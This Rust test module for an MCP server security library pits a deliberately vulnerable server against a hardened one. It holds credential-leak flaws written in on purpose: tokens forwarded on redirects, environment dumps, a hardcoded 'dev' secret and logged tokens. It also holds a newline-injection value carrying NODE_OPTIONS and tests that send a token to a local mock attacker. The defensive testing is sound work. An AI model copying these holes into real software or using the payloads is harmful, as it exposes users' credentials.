//! SECRET: a credential that a server has gets out.
//!
//! The twin reads its token from the environment, as most servers do. It takes it along wherever
//! a redirect leads, puts it where a caller's `${…}` says, keeps it in a file of its own, writes
//! down what it is asked, and has a client object that anybody may look into.
//!
//! Ours has the token in a vault, and an endpoint that spends it.

use std::{
    collections::HashMap,
    env, fs,
    io::{self, BufRead as _, BufReader, Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream},
    sync::{Arc, Mutex},
};

use mcp_secure::{
    capability::net::Redirects,
    prelude::*,
    sandbox::Sandbox,
    vault::{NewCredential, Placement, Vault, VaultFile, VaultKey},
};
use serde_json::{Value, json};

use crate::{
    ours::{Over, Root, Running, options},
    report::{Attack, Played, Stopped},
    scene::Scene,
    twin,
    wire::{Http as Request, ROLE, Server},
};

/// The naive server over stdio; its argument is the service that it calls.
pub fn twin() {
    let service = env::args().nth(1).unwrap();
    let token = env::var("API_TOKEN").unwrap();
    let config = json!({ "service": service, "token": token });
    fs::write("run.json", config.to_string()).unwrap();
    twin::over_stdio(|line| {
        eprintln!("request: {line}");
        twin::answer(&serde_json::from_str(line).ok()?, |tool, arguments| {
            let word = |name: &str| arguments[name].as_str().unwrap_or_default().to_owned();
            match tool {
                "fetch" => get(&format!("{service}/{}", word("page")), &token, 3),
                "connect" => get(&word("url").replace("${API_TOKEN}", &token), "", 3),
                "describe" => {
                    // A client object of any library: what it is asked for, it has.
                    let client = json!({ "version": "1", "session_id": token });
                    Ok(client[word("field")].to_string())
                }
                "set_token" => {
                    let line = format!("TOKEN={}\n", word("token"));
                    fs::write(".env", line).map(|()| "set".to_owned())
                }
                _ => fs::read_to_string(word("path")),
            }
        })
    });
}

/// The naive server over HTTP: with a page about itself, a log of all headers, and a secret that
/// everybody knows who has read its source.
pub fn twin_http() {
    twin::over_http(|request, mut stream| {
        eprintln!("{} {:?}", request.path, request.headers);
        let all: HashMap<String, String> = env::vars().collect();
        let (status, body) = match request.path.as_str() {
            "/api/health/detailed" => (200, json!({ "env": all }).to_string()),
            _ if request.header("authorization") == "Bearer dev" => (200, "welcome".to_owned()),
            _ => (401, String::new()),
        };
        twin::reply(&mut stream, (status, Vec::new(), body))
    });
}

/// With each of its headers, wherever it is led.
fn get(url: &str, token: &str, hops: usize) -> io::Result<String> {
    let rest = url.trim_start_matches("http://");
    let (address, path) = rest.split_once('/').unwrap_or((rest, ""));
    let mut stream = TcpStream::connect(address)?;
    write!(
        stream,
        "GET /{path} HTTP/1.1\r\nHost: {address}\r\nX-API-Key: {token}\r\nConnection: close\r\n\r\n"
    )?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    let location = answer.lines().find_map(|l| l.strip_prefix("Location: "));
    match location {
        Some(location) if hops > 0 => get(location, token, hops - 1),
        _ => Ok(answer),
    }
}

/// What costs a token.
#[capability(net, allow_private, credential = "api")]
pub struct Api;

struct Ours;

#[secure_server(name = "secret")]
impl Ours {
    /// Read one file.
    #[tool(scope = "files:read")]
    async fn read_file(&self, path: RelPath, root: Fs<Root, ReadOnly>) -> ToolResult<String> {
        Ok(root.read_to_string(&path).await?)
    }

    /// Fetch a page of the service.
    #[tool(public)]
    async fn fetch(&self, page: String, api: Net<Api, Get>) -> ToolResult<String> {
        let response = api.path("/{page}").segment("page", page).send().await?;
        Ok(response.text().await?)
    }

    /// Say one thing that the service knows of this client.
    #[tool(public)]
    async fn describe(&self, field: String, api: Net<Api, Get>) -> ToolResult<String> {
        let about: Value = api.path("/whoami").send().await?.json().await?;
        Ok(about[field].to_string())
    }

    /// Try another token.
    #[tool(public)]
    async fn set_token(&self, token: String, api: Net<Api, Get>) -> ToolResult<String> {
        let response = api.path("/whoami").header("x-token", token).send().await?;
        Ok(response.text().await?)
    }
}

/// Our server, with its vault beside the folder that it works in.
pub fn serve() -> mcp_secure::Result<()> {
    serve_with("../vault/v", "../keys/k")
}

/// The same, with the vault where its callers work.
pub fn serve_careless() -> mcp_secure::Result<()> {
    serve_with("vault/v", "../keys/k")
}

/// The same, with a key that is a word.
pub fn serve_default() -> mcp_secure::Result<()> {
    serve_with("../vault/v", "../keys/dev")
}

fn serve_with(vault: &str, key: &str) -> mcp_secure::Result<()> {
    let service = fs::read_to_string("../service").unwrap();
    let more = ["--grant".to_owned(), format!("api={service}")];
    SecureServer::new(Ours)
        .sandbox(Sandbox::new().keep_env(ROLE))
        .vault(Vault::file(vault, VaultKey::file(key)))
        .grant(Root::from_operator())
        .grant(Api::from_operator().redirects(Redirects::Granted))
        .stdio(Principal::local_user().scopes(["files:read"]))
        .run_from(env::args_os().chain(more.map(Into::into)))
}

pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    for advisory in ["CVE-2026-64684", "CVE-2026-53840"] {
        all.push(Attack::new(
            advisory,
            "",
            "the service redirects to the attacker's host, and the token goes along",
            redirected,
        ));
    }
    for advisory in ["CVE-2026-42282", "CVE-2026-20205"] {
        all.push(Attack::new(
            advisory,
            "",
            "a token is an argument of a tool, and arguments are in the log",
            logged,
        ));
    }
    all.extend([
        Attack::new(
            "CVE-2026-41495",
            "",
            "who is refused sent a token, and the headers are in the log",
            logged_unknown,
        ),
        Attack::new(
            "CVE-2026-25650",
            "",
            "the field that is asked for is the one with the token",
            field,
        ),
        Attack::new(
            "CVE-2025-47274",
            "",
            "what the server keeps for itself lies where it reads for callers",
            state_file,
        ),
        Attack::new(
            "CVE-2026-29787",
            "",
            "a page about the health of the server tells its environment",
            health,
        ),
        Attack::new(
            "CVE-2025-66454",
            "",
            "the secret is the word that stands in the documentation",
            default_secret,
        ),
        Attack::new(
            "CVE-2026-27203",
            "",
            "a token with a line break is a second line where it is written",
            line_break,
        ),
        Attack::new(
            "CVE-2026-32625",
            "",
            "an address has the name of a variable, which becomes its value",
            interpolated,
        ),
    ]);
    all
}

fn redirected() -> Played {
    let attacker = Site::start(None);
    let service = Site::start(Some(attacker.url()));
    let scene = scene(&service);
    let mut twin = begin(&scene, &service);
    twin.call("fetch", json!({ "page": "away" }));
    assert!(attacker.heard(&scene.canary), "the twin was not exploited");
    attacker.forget();

    let mut ours = start(&scene);
    let (_, caller) = ours.call("fetch", json!({ "page": "away" }));
    assert!(!attacker.heard(&scene.canary), "{caller}");
    let record = ours.refused_by("net/redirect");
    ours.still_works();
    Played {
        transport: "stdio",
        twin: "sent its token to the attacker's host".to_owned(),
        caller,
        stopped: Stopped::Refused(record),
    }
}

fn logged() -> Played {
    let service = Site::start(None);
    let scene = scene(&service);
    let arguments = json!({ "page": "manage", "token": "tok-of-a-person-4711" });
    let mut twin = begin(&scene, &service);
    twin.call("fetch", arguments);
    let errors = twin.errors_with("tok-of-a-person-4711");
    assert!(errors.contains("request:"), "the twin was not exploited");

    let mut ours = start(&scene);
    let (_, caller) = ours.call("set_token", json!({ "token": "tok-of-a-person-4711" }));
    let record = ours.record("of the call", |r| r.to_string().contains("set_token"));
    for said in [ours.audit(), ours.server.errors()] {
        assert!(!said.contains("tok-of-a-person"), "{said}");
    }
    ours.still_works();
    Played {
        transport: "stdio",
        twin: "wrote the token to its log".to_owned(),
        caller,
        stopped: Stopped::Harmless("arguments are in a record as keyed digests", record),
    }
}

fn logged_unknown() -> Played {
    let service = Site::start(None);
    let scene = guarded_scene(&service);
    let mut twin = Server::start("twin secret http", [""; 0], &scene);
    let request = || {
        let call = Request::stateless_call("read_file", json!({ "path": "hello.txt" }));
        call.bearer("tok-of-a-person-4711")
    };
    request().send(twin.address()).unwrap();
    let errors = twin.errors_with("tok-of-a-person-4711");
    assert!(!errors.is_empty(), "the twin was not exploited");

    let ours = Running::start_as("ours guarded", Over::Http, &scene, &json!({}));
    let answer = ours.send(&request());
    assert_eq!(answer.status, 401, "{answer:?}");
    let record = ours.refused_by("http/auth");
    for said in [ours.audit(), ours.server.errors()] {
        assert!(!said.contains("tok-of-a-person"), "{said}");
    }
    Played {
        transport: "http",
        twin: "wrote the token to its log".to_owned(),
        caller: answer.seen(),
        stopped: Stopped::Refused(record),
    }
}

fn field() -> Played {
    let service = Site::start(None);
    let scene = scene(&service);
    let arguments = json!({ "field": "session_id" });
    let mut twin = begin(&scene, &service);
    let answer = twin.call("describe", arguments.clone());
    let lost = answer.to_string().contains(&scene.canary);
    assert!(lost, "the twin was not exploited: {answer}");

    let mut ours = start(&scene);
    let (answer, caller) = ours.call("describe", arguments);
    assert!(!answer.to_string().contains(&scene.canary), "{answer}");
    assert!(caller.contains("[credential removed]"), "{caller}");
    let record = ours.record("of the call", |r| r.to_string().contains("net/reflection"));
    ours.still_works();
    Played {
        transport: "stdio",
        twin: "told its token".to_owned(),
        caller,
        stopped: Stopped::Cleaned("net/reflection", record),
    }
}

fn state_file() -> Played {
    let service = Site::start(None);
    let scene = scene(&service);
    let mut twin = begin(&scene, &service);
    let answer = twin.call("read_file", json!({ "path": "run.json" }));
    let lost = answer.to_string().contains(&scene.canary);
    assert!(lost, "the twin was not exploited: {answer}");

    fs::create_dir(scene.path("srv/root/vault")).unwrap();
    fs::copy(scene.path("srv/vault/v"), scene.path("srv/root/vault/v")).unwrap();
    let said = stopped("ours secret, careless", &scene);
    assert!(said.contains("a tool could give it away"), "{said}");
    Played {
        transport: "none",
        twin: "gave its configuration, with the token".to_owned(),
        caller: said.lines().next().unwrap_or_default().to_owned(),
        stopped: Stopped::AtTheStart("no grant reaches the vault, and the vault is encrypted"),
    }
}

fn health() -> Played {
    let service = Site::start(None);
    let scene = guarded_scene(&service);
    let mut twin = Server::start("twin secret http", [""; 0], &scene);
    let request = || Request::new("GET", "").at("/api/health/detailed");
    let answer = request().send(twin.address()).unwrap();
    assert!(
        answer.body.contains(&scene.canary),
        "the twin was not exploited"
    );

    let ours = Running::start_as("ours guarded", Over::Http, &scene, &json!({}));
    let answer = ours.send(&request());
    assert_eq!(answer.status, 404, "{answer:?}");
    assert!(!answer.body.contains(&scene.canary), "{answer:?}");
    Played {
        transport: "http",
        twin: "told its environment".to_owned(),
        caller: answer.seen(),
        stopped: Stopped::Refused(ours.refused_by("http/path")),
    }
}

fn default_secret() -> Played {
    let service = Site::start(None);
    let scene = scene(&service);
    let mut twin = Server::start("twin secret http", [""; 0], &scene);
    let answer = Request::post("{}").bearer("dev").send(twin.address());
    let answer = answer.unwrap();
    assert_eq!(answer.body, "welcome", "the twin was not exploited");

    scene.write("srv/keys/dev", "dev");
    private(&scene, "srv/keys/dev");
    let said = stopped("ours secret, default", &scene);
    assert!(said.contains("shorter than 32 bytes"), "{said}");
    Played {
        transport: "none",
        twin: "took the word for its secret".to_owned(),
        caller: said.lines().next().unwrap_or_default().to_owned(),
        stopped: Stopped::AtTheStart("a key that is not random is none"),
    }
}

fn line_break() -> Played {
    let service = Site::start(None);
    let scene = scene(&service);
    let arguments = json!({ "token": "x\r\nNODE_OPTIONS: --require /tmp/e.js" });
    let mut twin = begin(&scene, &service);
    twin.call("set_token", arguments.clone());
    let written = fs::read_to_string(scene.path("srv/root/.env")).unwrap();
    let lines = written.lines().filter(|line| line.starts_with("NODE_"));
    assert_eq!(lines.count(), 1, "the twin was not exploited: {written}");

    let mut ours = start(&scene);
    let (_, caller) = ours.call("set_token", arguments);
    let record = ours.refused_by("net/header");
    assert!(!service.heard("node_options"), "{caller}");
    ours.still_works();
    Played {
        transport: "stdio",
        twin: "has a second line in its configuration".to_owned(),
        caller,
        stopped: Stopped::Refused(record),
    }
}

fn interpolated() -> Played {
    let (attacker, service) = (Site::start(None), Site::start(None));
    let scene = scene(&service);
    let url = format!("{}/${{API_TOKEN}}", attacker.url());
    let mut twin = begin(&scene, &service);
    twin.call("connect", json!({ "url": url }));
    assert!(attacker.heard(&scene.canary), "the twin was not exploited");

    let mut ours = start(&scene);
    let (_, caller) = ours.call("fetch", json!({ "page": "${API_TOKEN}" }));
    assert!(service.heard("API_TOKEN%7D HTTP"), "{caller}");
    let record = ours.record("of the call", |r| r.to_string().contains("fetch"));
    ours.still_works();
    Played {
        transport: "stdio",
        twin: "put its token into an address of the attacker's".to_owned(),
        caller,
        stopped: Stopped::Harmless("a value is a value, and no host is a value", record),
    }
}

/// Files, a service, and a vault with the token for it.
fn scene(service: &Site) -> Scene {
    let scene = Scene::new();
    scene.write("srv/service", &service.url());
    fs::create_dir(scene.path("srv/keys")).unwrap();
    let key = VaultKey::file(scene.path("srv/keys/k"));
    key.make().unwrap();
    let vault = VaultFile::at(scene.path("srv/vault/v"));
    vault.init(&key).unwrap();
    let header = Placement::Header("x-api-key".to_owned());
    let token = NewCredential::new("api", header, [service.url()]).unwrap();
    vault
        .set(&key, &token, &scene.canary.clone().into())
        .unwrap();
    scene
}

fn guarded_scene(service: &Site) -> Scene {
    let scene = Scene::new();
    scene.write("srv/behind", &service.url());
    scene
}

fn private(scene: &Scene, path: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    fs::set_permissions(scene.path(path), fs::Permissions::from_mode(0o600)).unwrap();
}

fn begin(scene: &Scene, service: &Site) -> Server {
    let mut twin = Server::start("twin secret", [service.url()], scene);
    twin.initialize();
    twin
}

fn start(scene: &Scene) -> Running {
    Running::start_as("ours secret", Over::Stdio, scene, &json!({}))
}

/// What a server of ours says that does not start.
fn stopped(role: &str, scene: &Scene) -> String {
    let mut ours = Server::start(role, options(Over::Stdio, &scene.root, scene), scene);
    assert!(!ours.ended(), "it started");
    ours.errors()
}

/// A service that says what it was sent; `/away` may lead to another one.
struct Site {
    address: SocketAddr,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Site {
    fn start(away: Option<String>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let hears = Arc::clone(&heard);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let lines = BufReader::new(stream.try_clone().unwrap()).lines();
                let head: Vec<String> = lines
                    .map_while(Result::ok)
                    .take_while(|line| !line.is_empty())
                    .collect();
                let key = head.iter().find_map(|line| {
                    let (name, value) = line.split_once(": ")?;
                    name.eq_ignore_ascii_case("x-api-key")
                        .then(|| value.to_owned())
                });
                let body = json!({ "version": "1", "session_id": key }).to_string();
                let is_away = head.first().is_some_and(|line| line.contains("/away"));
                let location = away.clone().filter(|_| is_away);
                let status = if location.is_some() { 302 } else { 200 };
                let location = location.map(|url| format!("Location: {url}/taken\r\n"));
                hears.lock().unwrap().push(head.join("\n"));
                let _ = write!(
                    stream,
                    "HTTP/1.1 {status} -\r\n{}Content-Type: application/json\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    location.unwrap_or_default(),
                    body.len()
                );
            }
        });
        Self { address, heard }
    }

    fn url(&self) -> String {
        format!("http://{}", self.address)
    }

    fn heard(&self, words: &str) -> bool {
        let heard = self.heard.lock().unwrap();
        heard.iter().any(|head| head.contains(words))
    }

    fn forget(&self) {
        self.heard.lock().unwrap().clear();
    }
}
